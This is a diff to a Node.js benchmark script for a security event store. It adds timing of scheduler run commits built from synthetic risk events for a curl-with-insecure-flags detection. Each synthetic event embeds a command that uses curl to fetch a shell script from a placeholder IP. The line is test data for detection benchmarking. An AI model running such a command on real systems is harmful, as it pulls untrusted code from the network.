@@ -1,10 +1,13 @@
 #!/usr/bin/env node
 // Event store benchmark: append throughput (batches of 100 realistic ~1.5 KB Tetragon events, many appends
 // in flight like concurrent HEC requests), then the scan rate of a one-hour window holding 1M events of one
-// sourcetype, with and without the raw-filter pushdown. Uses the built store: run `npm run build` first.
+// sourcetype, with and without the raw-filter pushdown, then the cost of a scheduler run commit (ledger row
+// + risk events + finding + outbox item, one transaction), idle and during ingest. Uses the built store:
+// run `npm run build` first.
 //
-//   node bench/store.mjs [--events 1000000] [--noise 200000] [--in-flight 32] [--batch 100] [--rate 25000] [--dir DIR] [--keep]
+//   node bench/store.mjs [--events 1000000] [--noise 200000] [--in-flight 32] [--batch 100] [--rate 25000] [--runs 200] [--risk 50] [--dir DIR] [--keep]
 // --rate: after the throughput run, offer this many events/s (open loop) for 10 s and report append latency.
+// --runs/--risk: run commits to time, and risk events per run.
 // --dir DIR is kept; with a store already in it, the append phase is skipped (scan only).
 import { existsSync, mkdtempSync, rmSync, statSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -32,6 +35,8 @@ const IN_FLIGHT = Number(opt('in-flight', 32));
 const BATCH = Number(opt('batch', 100));
 const KEEP = args.includes('--keep');
 const RATE = Number(opt('rate', 25_000));
+const RUNS = Number(opt('runs', 200));
+const RISK = Number(opt('risk', 50));
 const given = opt('dir', null);
 const dir = given ?? mkdtempSync(join(tmpdir(), 'vigil-bench-store-'));
 
@@ -131,8 +136,7 @@ async function appendPhase(s) {
 }
 
 /** Open loop: a batch every BATCH/RATE seconds whatever the store does, like independent HEC clients. */
-async function latencyPhase(s) {
-  const seconds = 10;
+async function latencyPhase(s, seconds = 10, t0Offset = 7200) {
   const n = Math.floor((RATE * seconds) / BATCH);
   const loop = monitorEventLoopDelay({ resolution: 5 });
   loop.enable();
@@ -145,7 +149,7 @@ async function latencyPhase(s) {
     const wait = due - performance.now();
     if (wait > 1) await new Promise((res) => setTimeout(res, wait));
     const batch = [];
-    for (let k = 0; k < BATCH; k++) batch.push({ ...eventAt((i * BATCH + k) % TOTAL), _time: H0 + 7200 + (i * BATCH + k) / RATE });
+    for (let k = 0; k < BATCH; k++) batch.push({ ...eventAt((i * BATCH + k) % TOTAL), _time: H0 + t0Offset + (i * BATCH + k) / RATE });
     const started = performance.now();
     pending.push(
       s.append(batch).then(
@@ -204,6 +208,89 @@ const all = { kind: 'contains', text: 'exec_id' };
 await timeScan('raw "exec_id" (every event) filtered in JS', { ...window, raw: null }, all);
 await timeScan('raw "exec_id" (every event) pushed down', { ...window, raw: all });
 await timeScan('no sourcetype: all events of the hour', { earliest: H0, latest: H0 + 3600, metadata: [], raw: null, defaultIndexes: ['main'] });
+
+// --- run commits ----------------------------------------------------------------------------------
+/** A realistic scheduled run of the seed detection: RISK risk events (~1 KB each), one finding, one outbox item. */
+function runCommit(k) {
+  const scheduledTime = H0 + 86400 + k * 3600;
+  const runId = `bench-detection@${scheduledTime}`;
+  const events = [];
+  for (let i = 0; i < RISK; i++) {
+    const pod = podFor(i);
+    events.push({
+      _time: scheduledTime - 600 - i,
+      index: 'risk',
+      sourcetype: 'stash',
+      source: 'Cisco Isovalent - Curl Execution With Insecure Flags - Rule',
+      host: 'vigil',
+      _raw: JSON.stringify({
+        run_id: runId,
+        risk_event_id: `${k}-${i}`,
+        risk_object: pod.name,
+        risk_object_type: 'other',
+        risk_score: 45,
+        risk_message: `Curl with insecure flags executed in pod ${pod.name} on node-${i % 8}`,
+        search_name: 'Cisco Isovalent - Curl Execution With Insecure Flags - Rule',
+        annotations: { mitre_attack: ['T1105'] },
+        analyticstories: ['Cisco Isovalent Suspicious Activity'],
+        process: '/usr/bin/curl -sSLk https://198.51.100.7/p.sh',
+        pod_name: pod.name,
+        k8s_namespace: pod.namespace,
+        threat_object: ['/usr/bin/curl'],
+        threat_object_type: ['process'],
+      }),
+    });
+  }
+  return {
+    run: {
+      detectionId: 'bench-detection',
+      detectionName: 'Cisco Isovalent - Curl Execution With Insecure Flags',
+      scheduledTime,
+      earliest: scheduledTime - 4200,
+      latest: scheduledTime - 600,
+      startedAt: scheduledTime,
+      endedAt: scheduledTime + 1,
+      status: 'success',
+      mode: 'scheduled',
+      resultCount: RISK,
+      riskEventCount: RISK,
+      findingCount: 1,
+      error: null,
+    },
+    events,
+    findings: [{ id: `f-${k}`, ruleId: 'rule', ruleName: 'Risk Threshold Exceeded', time: scheduledTime, riskObject: 'pod', riskObjectType: 'other', riskScore: 120, detail: '{}', status: 'new', owner: null, updatedAt: scheduledTime }],
+    outbox: [{ id: `o-${k}`, action: 'webhook', payload: JSON.stringify({ run_id: runId }), createdAt: scheduledTime, nextAttemptAt: scheduledTime }],
+    suppressions: [{ key: `bench:${k % 10}`, until: scheduledTime + 3600 }],
+  };
+}
+
+/** Sequential run commits (the scheduler commits one run at a time), timed one by one. */
+async function runPhase(label, first) {
+  const latencies = [];
+  const t0 = performance.now();
+  for (let k = first; k < first + RUNS; k++) {
+    const t = performance.now();
+    await s.commitRun(runCommit(k));
+    latencies.push(performance.now() - t);
+  }
+  const ms = performance.now() - t0;
+  latencies.sort((a, b) => a - b);
+  console.log(
+    `  ${label.padEnd(30)} p50 ${pct(latencies, 50).toFixed(1)} ms, p99 ${pct(latencies, 99).toFixed(1)} ms, max ${latencies.at(-1).toFixed(1)} ms (${RUNS} runs in ${(ms / 1000).toFixed(1)} s)`,
+  );
+}
+
+if (RUNS > 0 && !reuse) {
+  console.log(`
+run commits: ledger row + ${RISK} risk events (~${Math.round(JSON.stringify(runCommit(0).events[0]).length / 100) * 100} B) + finding + outbox item, one transaction`);
+  await runPhase('idle', 0);
+  if (RATE > 0) {
+    const ingest = latencyPhase(s, 8, 4 * 3600);
+    await new Promise((res) => setTimeout(res, 500));
+    await runPhase(`during ingest (${RATE.toLocaleString('en-US')} ev/s)`, RUNS);
+    await ingest;
+  }
+}
 
 if (!KEEP && given === null) {
   const before = s.indexes().find((i) => i.name === 'main');
